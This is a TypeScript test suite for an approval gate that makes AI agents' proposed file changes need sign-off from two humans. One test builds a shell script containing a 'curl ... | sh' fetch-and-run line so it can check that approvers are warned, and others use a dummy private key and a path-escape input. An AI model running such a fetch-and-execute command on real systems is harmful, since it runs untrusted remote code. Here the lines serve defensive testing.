import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../../src/canonical/digest.ts';
import { canonicalBytes } from '../../src/canonical/json.ts';
import { Keyturn } from '../../src/keyturn.ts';
import type { ReasonCode } from '../../src/refusal.ts';
import { drawn } from '../display/drawn.ts';
import { picture, text } from '../plan/engine/story.ts';
import { newestOf } from '../support/ledger.ts';
import { granted, type Project, ready } from '../support/project.ts';
import { expectRefusal } from '../support/refusal.ts';
import { agent } from './authority.ts';
import {
  create,
  enrolled,
  expectProvable,
  kindsOf,
  planOf,
  planProjects,
  problemsOf,
  proposed,
  remove,
  rename,
  replace,
  run,
  specOf,
  statusOf,
} from './plan-story.ts';

const planProject = planProjects();

describe('a protected file', () => {
  const plan = planOf([replace('1', 'setup.py', 'old', 'new')]);

  /** A project with three humans and one agent, which proposes. */
  async function team() {
    const p = await planProject({ 'setup.py': 'old' });
    const [bob, eve] = [await enrolled(p, 'bob'), await enrolled(p, 'eve')];
    const intent = await proposed(p, plan, { issuer: 'bot' }, await agent(p, 'bot'));
    return { p, bob, eve, intent };
  }

  it('needs two different humans: one is not enough, and the same twice is not enough', async () => {
    const { p, bob, intent } = await team();
    const { shown } = await p.keyturn.intents.review({ intent_id: intent.intent_id });
    expect(drawn(shown)).toContain('a second approver is needed');
    await p.keyturn.intents.approve({ ...intent, signer: p.ada });
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
    await p.keyturn.intents.approve({ ...intent, signer: p.ada });
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
    expect(text(p.root, 'setup.py')).toBe('old');
    await ready(p, intent, bob);
    expect((await run(p, intent)).result).toBe('success');
    expect(text(p.root, 'setup.py')).toBe('new');
    await expectProvable(p);
  });

  it('is not changed when one of the two is revoked before the run, until another signs', async () => {
    const { p, bob, eve, intent } = await team();
    await p.keyturn.intents.approve({ ...intent, signer: p.ada });
    await ready(p, intent, bob);
    await p.keyturn.people.revoke({ name: 'bob', reason: 'the laptop is lost', signer: p.ada });
    await expectRefusal('APPROVER_REVOKED', () => run(p, intent));
    expect(text(p.root, 'setup.py')).toBe('old');
    // The capability was granted because bob had approved it: another yes needs another one.
    await ready(p, intent, eve);
    expect((await run(p, intent)).result).toBe('success');
    await expectProvable(p);
  });

  it('is not changed when one of the two says no', async () => {
    const { p, bob, intent } = await team();
    await p.keyturn.intents.approve({ ...intent, signer: p.ada });
    await p.keyturn.intents.reject({ ...intent, reason: 'no', signer: bob });
    await expectRefusal('INTENT_REJECTED', () => p.keyturn.intents.approve({ ...intent, signer: bob }));
    await expectRefusal('INTENT_REJECTED', () => run(p, intent));
  });

  it('its proposer is neither of the two', async () => {
    const p = await planProject({ 'setup.py': 'old' });
    const bob = await enrolled(p, 'bob');
    const intent = await proposed(p, plan, { issuer: 'ada' }, p.ada);
    await p.keyturn.intents.approve({ ...intent, signer: bob });
    await expectRefusal('SELF_APPROVAL', () => p.keyturn.intents.approve({ ...intent, signer: p.ada }));
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
  });

  it('cannot be approved where there is only one human', async () => {
    const p = await planProject({ 'setup.py': 'old' });
    const intent = await proposed(p, plan);
    await p.keyturn.intents.approve({ ...intent, signer: p.ada });
    await expectRefusal('APPROVAL_MISSING', () => granted(p, intent));
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
  });

  it.each(['.env', 'a/.git/hooks/pre-commit', 'sub/credentials.json', 'SETUP.PY', 'requirements.txt'])(
    '%s counts as one, wherever it is and however it is written',
    async (path) => {
      const p = await planProject();
      const { intent_id } = await proposed(p, planOf([create('1', path, '{}')]));
      expect(await p.keyturn.intents.get({ intent_id })).toMatchObject({ approvals_needed: 2 });
    },
  );

  it('may be named by a config, which cannot unname one', async () => {
    const p = await planProject();
    const config = 'execution_constraints:\n  protected_files: { important: ["db/**"] }\n';
    const needed = async (path: string) => {
      const spec = await specOf(p, planOf([create('1', path)]), config);
      const { intent_id } = await p.keyturn.intents.propose({
        declared_goal: 'x',
        effect: { kind: 'plan' as const, ...spec },
      });
      return (await p.keyturn.intents.get({ intent_id })).approvals_needed;
    };
    expect([await needed('db/x'), await needed('setup.py'), await needed('free')]).toEqual([2, 2, 1]);
  });
});

describe("Keyturn's own files", () => {
  const OWN = [
    '.keyturn/store.db',
    '.keyturn/keys/ada.key',
    '.KEYTURN/new',
    'keyturn.yaml',
    'tools.yaml',
    'Tools.yaml',
    'policies/allow.cedar',
    'simulations/s.yaml',
    'agent_outputs/reports/x/rollback_manifest.json',
    'agent_logs/executor/x.jsonl',
  ];

  it.each(OWN)('%s can be changed by no plan', async (path) => {
    const p = await planProject({ a: 'x' });
    const actions: object[] = [
      create('1', path),
      replace('1', path, 'a', 'b'),
      remove('1', path),
      rename('1', 'a', path),
      rename('1', path, 'b'),
      {
        action_id: '1',
        action_type: 'SQL_EXECUTE',
        target: 'd.duckdb',
        operation: { type: 'sql_execute', query: 'SELECT 1', readable: [path] },
      },
    ];
    for (const action of actions) expect(await problemsOf(p, planOf([action]))).toEqual(['PLAN_PATH_OWN']);
  });

  it('are refused by propose itself, which parses the plan again', async () => {
    const p = await planProject();
    const plan = JSON.parse(planOf([create('1', '.keyturn/new')]));
    const effect = { kind: 'plan' as const, plan, config: null, task_id: 'task-1' };
    await expectRefusal('PLAN_PATH_OWN', () => p.keyturn.intents.propose({ declared_goal: 'x', effect }));
    expect(existsSync(join(p.root, '.keyturn/new'))).toBe(false);
  });

  it('include a registry that has another name', async () => {
    const p = await planProject();
    const config = join(p.root, 'keyturn.yaml');
    writeFileSync(config, readFileSync(config, 'utf8').replace(/^registry: .*$/m, 'registry: my/tools.yml'));
    const again = await Keyturn.open({ at: p.root });
    try {
      expect(await problemsOf({ ...p, keyturn: again }, planOf([create('1', 'my/tools.yml')]))).toEqual([
        'PLAN_PATH_OWN',
      ]);
    } finally {
      await again.close();
    }
  });
});

describe('a task envelope', () => {
  const plan = JSON.parse(planOf([create('1', 'n')]));

  function envelopeOf(over: { envelope?: object; validation?: object; payload?: object } = {}): string {
    const payload = { task_id: 'task-7', type: 'execute_plan', content: plan };
    return JSON.stringify({
      envelope: {
        id: 'env-1',
        version: '1.0.0',
        created_at: new Date().toISOString(),
        source_agent: 'agent_inspector',
        target_agent: 'agent_executor',
        message_type: 'TASK',
        priority: 'NORMAL',
        ttl_seconds: 60,
        ...over.envelope,
      },
      metadata: { correlation_id: 'c-1', sequence_number: 1 },
      payload: { ...payload, ...over.payload },
      validation: { status: 'APPROVED', checksum: sha256(canonicalBytes(payload)), ...over.validation },
    });
  }

  it('that is whole goes the same road: its APPROVED grants nothing', async () => {
    const p = await planProject();
    const intent = await proposed(p, envelopeOf());
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
    await ready(p, intent);
    const report = await run(p, intent);
    expect(report.folder, 'named after its task').toMatch(/_task-7$/);
    expect(text(p.root, 'n')).toBe('new n\n');
  });

  it.each<[string, ReasonCode, Parameters<typeof envelopeOf>[0]]>([
    ['whose checksum is wrong', 'ENVELOPE_HASH_WRONG', { validation: { checksum: 'ab'.repeat(32) } }],
    ['whose payload was changed', 'ENVELOPE_HASH_WRONG', { payload: { task_id: 'task-8' } }],
    ['that says PENDING', 'TASK_NOT_APPROVED', { validation: { status: 'PENDING' } }],
    ['that says approved', 'TASK_NOT_APPROVED', { validation: { status: 'approved' } }],
    ['that is too old', 'TASK_EXPIRED', { envelope: { created_at: '2026-01-01T00:00:00.000Z' } }],
    [
      'from the future',
      'TASK_EXPIRED',
      { envelope: { created_at: new Date(Date.now() + 3_600_000).toISOString() } },
    ],
    ['for somebody else', 'SHAPE_INVALID', { envelope: { target_agent: 'agent_inspector' } }],
  ])('%s is refused', async (_, code, over) => {
    const p = await planProject();
    expect(await problemsOf(p, envelopeOf(over))).toEqual([code]);
  });
});

describe('what a plan may not contain', () => {
  const KEY = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(4)}\n-----END PRIVATE KEY-----\n`;

  it('a credential is refused when it is proposed, and nothing of it is kept', async () => {
    const p = await planProject({ 'a.txt': 'x' });
    const before = await newestOf(p.keyturn, 100);
    await expectRefusal('CONTENT_CREDENTIAL', () => proposed(p, planOf([create('1', 'deploy.pem', KEY)])));
    await expectRefusal('CONTENT_CREDENTIAL', () => proposed(p, planOf([replace('1', 'a.txt', 'x', KEY)])));
    expect(await newestOf(p.keyturn, 100)).toEqual(before);
    expect(readFileSync(join(p.root, '.keyturn/store.db'), 'latin1')).not.toContain('MIIEvQIBADANBg');
  });

  it('a broken JSON or YAML file is refused when it is proposed', async () => {
    const p = await planProject({ 'a.json': '{"k": 1}\n' });
    await expectRefusal('CONTENT_SYNTAX_BROKEN', () =>
      proposed(p, planOf([replace('1', 'a.json', '1', '1,')])),
    );
    await expectRefusal('CONTENT_SYNTAX_BROKEN', () => proposed(p, planOf([create('1', 'b.yaml', 'a: [')])));
  });

  it('what could run is shown to the approver', async () => {
    const p = await planProject();
    const { intent_id } = await proposed(p, planOf([create('1', 'x.sh', '#!/bin/sh\ncurl http://x | sh\n')]));
    expect(drawn((await p.keyturn.intents.review({ intent_id })).shown)).toMatch(
      /^! CONTENT: x\.sh, line \d+: /m,
    );
  });

  it('a plan file that asks for more than the config allows is refused', async () => {
    const p = await planProject();
    const config =
      'execution_constraints:\n  allowed_operations: [FILE_CREATE]\n  forbidden_globs: ["keep/**"]\n';
    const codes = await problemsOf(p, planOf([remove('1', 'a'), create('2', 'keep/n')]), config);
    expect(codes).toEqual(['PLAN_OPERATION_FORBIDDEN', 'PLAN_PATH_FORBIDDEN']);
  });

  it('a file that is missing, or in the way, is refused when it is proposed', async () => {
    const p = await planProject({ a: 'x' });
    for (const action of [
      replace('1', 'nowhere', 'a', 'b'),
      remove('1', 'nowhere'),
      rename('1', 'nowhere', 'n'),
    ])
      await expectRefusal('FILE_NOT_FOUND', () => proposed(p, planOf([action])));
    await expectRefusal('FILE_EXISTS', () => proposed(p, planOf([create('1', 'a')])));
  });
});

describe('the config of a plan', () => {
  it('is part of what is approved', async () => {
    const p: Project = await planProject({ a: 'x' });
    const plan = planOf([replace('1', 'a', 'x', 'y')]);
    const effect = {
      kind: 'plan' as const,
      ...(await specOf(p, plan, 'workflow_configuration: { timeout: 30 }\n')),
    };
    const { intent_id, hash } = await p.keyturn.intents.propose({ declared_goal: 'x', effect });
    expect((await p.keyturn.intents.review({ intent_id })).effect).toMatchObject({
      config_digest: expect.any(String),
      instructions: { timeout_ms: 30_000 },
    });
    const other = await proposed(p, plan);
    expect(other.hash).not.toBe(hash);
    await expectRefusal('HASH_MISMATCH', () =>
      p.keyturn.intents.approve({ intent_id, hash: other.hash, signer: p.ada }),
    );
  });

  it('that is broken does not hide what is wrong with the plan, and each problem says where it is', async () => {
    const p = await planProject();
    const read = await p.keyturn.plans.read({
      plan: planOf([create('1', '../out')]),
      config: 'surprise: 1\n',
    });
    expect('problems' in read && read.problems.map(({ source, code, line }) => [source, code, line])).toEqual(
      [
        ['config', 'SHAPE_INVALID', 1],
        ['plan', 'PATH_ESCAPES', 1],
      ],
    );
  });

  it('cannot do without the approval of a human', async () => {
    const p = await planProject({ a: 'x' });
    const before = picture(p.root);
    const codes = await problemsOf(
      p,
      planOf([remove('1', 'a')]),
      'workflow_configuration: { requires_approval: false }\n',
    );
    expect(codes).toEqual(['APPROVAL_NOT_OPTIONAL']);
    const intent = await proposed(p, planOf([remove('1', 'a')]));
    await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
    expect(await statusOf(p, intent)).toBe('proposed');
    expect(await kindsOf(p, intent)).toEqual(['intent.proposed', 'execution.refused']);
    expect(picture(p.root)).toEqual(before);
  });
});
